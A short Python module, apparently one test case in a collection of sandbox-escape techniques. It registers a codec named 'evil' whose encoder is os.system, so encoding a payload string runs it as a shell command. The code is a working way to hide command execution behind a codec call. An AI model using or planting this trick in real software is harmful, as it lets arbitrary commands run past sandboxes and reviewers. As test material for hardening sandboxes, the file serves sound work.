"""The encoder of evil's own codec is a C function."""
CATEGORY = "callable"
REACH = "run"

import codecs
import os
import types

from . import payload


def encoder(errors):
    return types.SimpleNamespace(encode=os.system)


def search(name):
    if name == "evil":
        return codecs.CodecInfo(None, None, None, None, encoder, None)


def attack():
    codecs.register(search)


TEXT = payload.COMMAND
